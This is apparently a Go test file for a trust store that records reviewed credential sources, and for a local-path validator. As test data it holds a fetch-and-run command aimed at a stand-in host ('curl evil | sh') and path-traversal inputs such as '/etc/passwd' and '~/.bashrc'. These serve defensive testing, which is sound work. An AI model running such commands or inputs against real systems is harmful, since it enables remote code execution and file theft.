package trust

import (
	"errors"
	"os"
	"path/filepath"
	"testing"

	"github.com/cscript-dev/cscript/store"
)

func TestStoreTrustsExactlyWhatWasReviewed(t *testing.T) {
	path := filepath.Join(t.TempDir(), "state", "trust.json")
	s := Open(path)
	cmd := Feature{Where: "script a", Field: "credentials.X.fromCommand", Value: "pass show db"}
	env := Feature{Where: "deck d", Field: "credentials.Y.fromEnv", Value: "TOKEN"}
	if bad, err := s.Untrusted("team", []Feature{cmd, env}); err != nil || len(bad) != 2 {
		t.Fatalf("nothing trusted yet: %v, %v", bad, err)
	}
	if err := s.Trust("team", []Feature{cmd, env}); err != nil {
		t.Fatal(err)
	}
	if fi, err := os.Stat(path); err != nil || fi.Mode().Perm() != 0o600 {
		t.Errorf("trust file: %v, %v; want mode 0600", fi, err)
	}
	if bad, _ := s.Untrusted("team", []Feature{cmd, env}); len(bad) != 0 {
		t.Errorf("trusted features refused: %v", bad)
	}
	changed := cmd
	changed.Value = "curl evil | sh"
	if bad, _ := s.Untrusted("team", []Feature{changed, env}); len(bad) != 1 || bad[0] != changed {
		t.Errorf("a changed value: %v, want only it refused", bad)
	}
	if bad, _ := s.Untrusted("other", []Feature{cmd}); len(bad) != 1 {
		t.Errorf("another library with the same feature was trusted: %v", bad)
	}
	if err := s.Revoke("team"); err != nil {
		t.Fatal(err)
	}
	if bad, _ := s.Untrusted("team", []Feature{cmd}); len(bad) != 1 {
		t.Errorf("after revoke: %v", bad)
	}
}

func TestOfScript(t *testing.T) {
	s := &store.Script{Name: "a", Credentials: []store.Credential{{Name: "X", FromFile: "~/.pgpass"}, {Name: "S", Secret: &store.SecretRef{Name: "s", Key: "k"}}}}
	s.Files.Upload = []store.FileMapping{{From: "in.txt", To: "/work/in"}}
	s.Files.Download = []store.FileMapping{{From: "/work/out", To: "out.txt"}}
	got := OfScript(s)
	want := []Feature{
		{Where: "script a", Field: "credentials.X.fromFile", Value: "~/.pgpass"},
		{Where: "script a", Field: "files.upload.from", Value: "in.txt"},
		{Where: "script a", Field: "files.download.to", Value: "out.txt"},
	}
	if len(got) != len(want) {
		t.Fatalf("OfScript = %v, want %v", got, want)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("OfScript[%d] = %v, want %v", i, got[i], want[i])
		}
	}
}

func TestLocalPath(t *testing.T) {
	for _, ok := range []string{"dump.sql.gz", "out/x", "./a", "a/../b", ""} {
		if err := LocalPath("f", ok); err != nil {
			t.Errorf("LocalPath(%q) = %v", ok, err)
		}
	}
	for _, bad := range []string{"/etc/passwd", "../x", "a/../../x", "..", "~/.bashrc", `..\x`, `C:\x`, `\\host\share\x`} {
		var pe *PathError
		if err := LocalPath("f", bad); !errors.As(err, &pe) {
			t.Errorf("LocalPath(%q) = %v, want a PathError", bad, err)
		}
	}
}
